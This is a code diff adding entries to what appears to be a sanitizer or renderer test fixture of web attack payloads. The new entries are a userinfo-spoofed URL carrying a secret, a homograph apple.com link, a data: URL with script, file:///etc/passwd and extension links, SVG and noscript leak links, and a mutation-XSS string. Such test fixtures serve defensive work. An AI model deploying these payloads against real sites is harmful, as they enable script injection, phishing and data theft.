@@ -61,6 +61,13 @@ def payloads(origin: str, secret: str) -> dict[str, str]:
         "link that shows another host": f"[https://good.example/docs]({leak('spoof')})",
         "overlay link over the panel": f'<a href="{leak("overlay")}" style="position:fixed;inset:0;opacity:0;z-index:99">x</a>',
         "id that shadows the panel's": '<span id="notice-text">fake notice</span>',
+        "link to a user name at another host": f"<{origin.replace('//', '//bank.example@')}/userinfo?d={secret}>",
+        "homograph link": "[https://аpple.com/](https://аpple.com/)",
+        "data: link": "[open](data:text/html,<script>alert(1)</script>)",
+        "file and extension links": "[file](file:///etc/passwd) [settings](chrome-extension://abc/extension/options/options.html)",
+        "svg link": f'<svg><a href="{leak("svg-a")}" xlink:href="{leak("svg-xlink-a")}"><text y="9">svg</text></a></svg>',
+        "noscript img": f'<noscript><img src="{leak("noscript")}"></noscript>',
+        "mutation xss": f'<math><mtext><table><mglyph><style><img src="{leak("mxss")}" onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
         "data image": f"![red dot]({DATA_IMAGE})",
     }
 
